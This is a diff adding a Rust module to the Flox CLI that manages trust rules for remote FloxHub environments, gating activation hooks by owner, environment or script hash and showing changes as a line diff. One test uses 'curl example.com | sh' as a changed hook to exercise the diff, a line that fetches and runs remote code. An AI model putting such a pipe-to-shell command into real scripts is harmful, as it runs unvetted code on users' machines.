@@ -0,0 +1,427 @@
+use std::fs;
+use std::path::PathBuf;
+
+use anyhow::{bail, Context, Result};
+use bpaf::Bpaf;
+use flox_rust_sdk::flox::{EnvironmentRef, Flox, FloxhubToken};
+use flox_rust_sdk::models::environment::remote_environment::RemoteEnvironment;
+use flox_rust_sdk::models::environment::{Environment, ManagedPointer};
+use flox_rust_sdk::models::manifest::ActivationScripts;
+use indoc::formatdoc;
+use log::debug;
+use tracing::instrument;
+
+use crate::commands::general::update_config;
+use crate::config::{Config, EnvironmentTrust, FloxConfig};
+use crate::subcommand_metric;
+use crate::utils::message;
+
+/// Directory in the data dir holding the activation scripts
+/// of environments trusted by hash, used to show what changed
+const TRUSTED_SCRIPTS_DIR: &str = "trusted-scripts";
+
+// Manage which remote environments are trusted for activation
+#[derive(Clone, Debug, Bpaf)]
+pub enum Trust {
+    /// List trusted and denied environments and owners
+    #[bpaf(command)]
+    List,
+
+    /// Trust a remote environment or all environments of an owner
+    #[bpaf(command)]
+    Add {
+        /// Only trust the current hooks, profile scripts and variables,
+        /// ask again when they change
+        #[bpaf(long)]
+        hash: bool,
+
+        #[bpaf(external(trust_target))]
+        target: TrustTarget,
+    },
+
+    /// Remove all trust rules for a remote environment or owner
+    #[bpaf(command)]
+    Revoke(#[bpaf(external(trust_target))] TrustTarget),
+}
+
+#[derive(Clone, Debug, Bpaf)]
+pub enum TrustTarget {
+    Owner(
+        /// Apply to all environments of an owner
+        #[bpaf(long("owner"), argument("owner"))]
+        String,
+    ),
+    Environment(
+        /// A remote environment on FloxHub
+        #[bpaf(positional("owner>/<name"))]
+        EnvironmentRef,
+    ),
+}
+
+impl Trust {
+    #[instrument(name = "trust", skip_all)]
+    pub async fn handle(self, config: Config, flox: Flox) -> Result<()> {
+        subcommand_metric!("trust");
+
+        match self {
+            Trust::List => list_rules(&config.flox),
+            Trust::Add {
+                hash: false,
+                target: TrustTarget::Owner(owner),
+            } => {
+                set_owner_rule(&flox, &owner, Some(EnvironmentTrust::Trust))?;
+                message::updated(format!("Trusted all environments of {owner}"));
+                Ok(())
+            },
+            Trust::Add {
+                hash: true,
+                target: TrustTarget::Owner(_),
+            } => bail!("'--hash' can only be used to trust a single environment"),
+            Trust::Add {
+                hash: false,
+                target: TrustTarget::Environment(env_ref),
+            } => {
+                set_environment_rule(&flox, &env_ref, Some(EnvironmentTrust::Trust))?;
+                message::updated(format!("Trusted environment {env_ref}"));
+                Ok(())
+            },
+            Trust::Add {
+                hash: true,
+                target: TrustTarget::Environment(env_ref),
+            } => {
+                let pointer = ManagedPointer::new(
+                    env_ref.owner().clone(),
+                    env_ref.name().clone(),
+                    &flox.floxhub,
+                );
+                let environment = RemoteEnvironment::new(&flox, pointer)?;
+                let scripts =
+                    ActivationScripts::from_manifest(&environment.manifest_content(&flox)?)
+                        .context("Could not read the hooks of the environment")?;
+                trust_scripts(&flox, &env_ref, &scripts)?;
+                message::updated(format!(
+                    "Trusted environment {env_ref} until its hooks, profile scripts or variables change"
+                ));
+                Ok(())
+            },
+            Trust::Revoke(TrustTarget::Owner(owner)) => {
+                if !config.flox.trusted_owners.contains_key(&owner) {
+                    message::warning(format!("There are no trust rules for {owner}"));
+                    return Ok(());
+                }
+                set_owner_rule(&flox, &owner, None)?;
+                message::updated(format!("Removed trust rules for {owner}"));
+                Ok(())
+            },
+            Trust::Revoke(TrustTarget::Environment(env_ref)) => {
+                let has_rule = config.flox.trusted_environments.contains_key(&env_ref);
+                let has_hash = config.flox.trusted_hooks.contains_key(&env_ref);
+                if !has_rule && !has_hash {
+                    message::warning(format!("There are no trust rules for {env_ref}"));
+                    return Ok(());
+                }
+                if has_rule {
+                    set_environment_rule(&flox, &env_ref, None)?;
+                }
+                if has_hash {
+                    update_config::<String>(
+                        &flox.config_dir,
+                        &flox.temp_dir,
+                        format!("trusted_hooks.'{env_ref}'"),
+                        None,
+                    )?;
+                    let _ = fs::remove_file(trusted_scripts_path(&flox, &env_ref));
+                }
+                message::updated(format!("Removed trust rules for {env_ref}"));
+                Ok(())
+            },
+        }
+    }
+}
+
+fn list_rules(config: &FloxConfig) -> Result<()> {
+    let mut lines = Vec::new();
+
+    let mut owners = config.trusted_owners.iter().collect::<Vec<_>>();
+    owners.sort_by_key(|(owner, _)| owner.as_str());
+    for (owner, trust) in owners {
+        lines.push(format!("{owner}/*\t{}", describe_trust(trust)));
+    }
+
+    let mut environments = config
+        .trusted_environments
+        .iter()
+        .map(|(env_ref, trust)| (env_ref.to_string(), describe_trust(trust).to_string()))
+        .chain(config.trusted_hooks.iter().map(|(env_ref, hash)| {
+            (
+                env_ref.to_string(),
+                format!("trust while hooks match {}", &hash[..hash.len().min(12)]),
+            )
+        }))
+        .collect::<Vec<_>>();
+    environments.sort();
+    for (env_ref, trust) in environments {
+        lines.push(format!("{env_ref}\t{trust}"));
+    }
+
+    if lines.is_empty() {
+        message::plain("No trust rules configured");
+    } else {
+        println!("{}", lines.join("\n"));
+    }
+    Ok(())
+}
+
+fn describe_trust(trust: &EnvironmentTrust) -> &'static str {
+    match trust {
+        EnvironmentTrust::Trust => "trust",
+        EnvironmentTrust::Deny => "deny",
+    }
+}
+
+/// The result of applying the configured trust rules to an environment
+#[derive(Debug, PartialEq)]
+pub(super) enum TrustDecision {
+    Trusted(&'static str),
+    /// The environment is denied
+    Denied,
+    /// All environments of the owner are denied
+    OwnerDenied,
+    /// The environment was trusted by hash,
+    /// but its hooks, profile scripts or variables changed since
+    ScriptsChanged,
+    /// No rule applies
+    Unknown,
+}
+
+/// Decide whether an environment is trusted without asking the user
+///
+/// Rules for a single environment take precedence over rules for its owner.
+pub(super) fn evaluate_trust(
+    config: &FloxConfig,
+    token: Option<&FloxhubToken>,
+    env_ref: &EnvironmentRef,
+    scripts: &ActivationScripts,
+) -> TrustDecision {
+    let owner = env_ref.owner().as_str();
+
+    // Official Flox environments are trusted by default
+    // Only applies to the current flox owned FloxHub,
+    // so this rule might need to be revisited in the future.
+    if owner == "flox" {
+        return TrustDecision::Trusted("official Flox environment");
+    }
+
+    if token.is_some_and(|token| token.handle() == owner) {
+        return TrustDecision::Trusted("owned by you");
+    }
+
+    match config.trusted_environments.get(env_ref) {
+        Some(EnvironmentTrust::Trust) => return TrustDecision::Trusted("trusted by config"),
+        Some(EnvironmentTrust::Deny) => return TrustDecision::Denied,
+        None => {},
+    }
+
+    if let Some(hash) = config.trusted_hooks.get(env_ref) {
+        if *hash == scripts.hash() {
+            return TrustDecision::Trusted("trusted by hash");
+        }
+        return TrustDecision::ScriptsChanged;
+    }
+
+    match config.trusted_owners.get(owner) {
+        Some(EnvironmentTrust::Trust) => TrustDecision::Trusted("owner trusted by config"),
+        Some(EnvironmentTrust::Deny) => TrustDecision::OwnerDenied,
+        None => TrustDecision::Unknown,
+    }
+}
+
+pub(super) fn set_environment_rule(
+    flox: &Flox,
+    env_ref: &EnvironmentRef,
+    trust: Option<EnvironmentTrust>,
+) -> Result<()> {
+    update_config(
+        &flox.config_dir,
+        &flox.temp_dir,
+        format!("trusted_environments.'{env_ref}'"),
+        trust,
+    )
+    .context("Could not write trust rule to config")
+}
+
+pub(super) fn set_owner_rule(
+    flox: &Flox,
+    owner: &str,
+    trust: Option<EnvironmentTrust>,
+) -> Result<()> {
+    update_config(
+        &flox.config_dir,
+        &flox.temp_dir,
+        format!("trusted_owners.'{owner}'"),
+        trust,
+    )
+    .context("Could not write trust rule to config")
+}
+
+/// Trust an environment as long as its activation scripts stay the same
+///
+/// The scripts are kept to show what changed the next time we ask.
+pub(super) fn trust_scripts(
+    flox: &Flox,
+    env_ref: &EnvironmentRef,
+    scripts: &ActivationScripts,
+) -> Result<()> {
+    update_config(
+        &flox.config_dir,
+        &flox.temp_dir,
+        format!("trusted_hooks.'{env_ref}'"),
+        Some(scripts.hash()),
+    )
+    .context("Could not write trust rule to config")?;
+
+    let path = trusted_scripts_path(flox, env_ref);
+    if let Err(e) =
+        fs::create_dir_all(path.parent().unwrap()).and_then(|_| fs::write(&path, scripts.render()))
+    {
+        debug!("Could not store trusted scripts of {env_ref}: {e}");
+    }
+    Ok(())
+}
+
+fn trusted_scripts_path(flox: &Flox, env_ref: &EnvironmentRef) -> PathBuf {
+    flox.data_dir
+        .join(TRUSTED_SCRIPTS_DIR)
+        .join(env_ref.owner().as_str())
+        .join(env_ref.name().as_ref())
+}
+
+/// Show the activation scripts of an environment,
+/// as a diff against the scripts last trusted if there are any
+pub(super) fn format_scripts(
+    flox: &Flox,
+    env_ref: &EnvironmentRef,
+    scripts: &ActivationScripts,
+) -> String {
+    let current = scripts.render();
+    if current.is_empty() {
+        return "The environment has no hooks, profile scripts or variables.".to_string();
+    }
+
+    match fs::read_to_string(trusted_scripts_path(flox, env_ref)) {
+        Ok(trusted) => formatdoc! {"
+            Changes since you last trusted {env_ref}:
+
+            {}",
+            line_diff(&trusted, &current)
+        },
+        Err(_) => current,
+    }
+}
+
+/// A minimal line based diff,
+/// prefixing removed lines with `-` and added lines with `+`
+fn line_diff(old: &str, new: &str) -> String {
+    let old = old.lines().collect::<Vec<_>>();
+    let new = new.lines().collect::<Vec<_>>();
+
+    // lengths of the longest common subsequences of all suffixes
+    let mut lcs = vec![vec![0usize; new.len() + 1]; old.len() + 1];
+    for i in (0..old.len()).rev() {
+        for j in (0..new.len()).rev() {
+            lcs[i][j] = if old[i] == new[j] {
+                lcs[i + 1][j + 1] + 1
+            } else {
+                lcs[i + 1][j].max(lcs[i][j + 1])
+            };
+        }
+    }
+
+    let mut lines = Vec::new();
+    let (mut i, mut j) = (0, 0);
+    while i < old.len() || j < new.len() {
+        if i < old.len() && j < new.len() && old[i] == new[j] {
+            lines.push(format!("  {}", old[i]));
+            i += 1;
+            j += 1;
+        } else if j < new.len() && (i == old.len() || lcs[i][j + 1] >= lcs[i + 1][j]) {
+            lines.push(format!("+ {}", new[j]));
+            j += 1;
+        } else {
+            lines.push(format!("- {}", old[i]));
+            i += 1;
+        }
+    }
+    lines.join("\n")
+}
+
+#[cfg(test)]
+mod tests {
+    use std::str::FromStr;
+
+    use indoc::indoc;
+
+    use super::*;
+
+    fn scripts(hook: &str) -> ActivationScripts {
+        ActivationScripts::from_manifest(&format!("[hook]\non-activate = {hook:?}\n")).unwrap()
+    }
+
+    #[test]
+    fn environment_rules_take_precedence_over_owner_rules() {
+        let env_ref = EnvironmentRef::from_str("alice/tools").unwrap();
+        let mut config = FloxConfig::default();
+        config
+            .trusted_owners
+            .insert("alice".to_string(), EnvironmentTrust::Trust);
+        assert_eq!(
+            evaluate_trust(&config, None, &env_ref, &scripts("echo hi")),
+            TrustDecision::Trusted("owner trusted by config")
+        );
+
+        config
+            .trusted_environments
+            .insert(env_ref.clone(), EnvironmentTrust::Deny);
+        assert_eq!(
+            evaluate_trust(&config, None, &env_ref, &scripts("echo hi")),
+            TrustDecision::Denied
+        );
+    }
+
+    #[test]
+    fn hash_trust_expires_when_scripts_change() {
+        let env_ref = EnvironmentRef::from_str("alice/tools").unwrap();
+        let mut config = FloxConfig::default();
+        config
+            .trusted_hooks
+            .insert(env_ref.clone(), scripts("echo hi").hash());
+
+        assert_eq!(
+            evaluate_trust(&config, None, &env_ref, &scripts("echo hi")),
+            TrustDecision::Trusted("trusted by hash")
+        );
+        assert_eq!(
+            evaluate_trust(&config, None, &env_ref, &scripts("echo bye")),
+            TrustDecision::ScriptsChanged
+        );
+    }
+
+    #[test]
+    fn line_diff_marks_changes() {
+        let old = indoc! {"
+            [hook.on-activate]
+            echo hi
+            echo there
+        "};
+        let new = indoc! {"
+            [hook.on-activate]
+            echo hi
+            curl example.com | sh
+        "};
+        assert_eq!(line_diff(old, new), indoc! {"
+              [hook.on-activate]
+              echo hi
+            + curl example.com | sh
+            - echo there"});
+    }
+}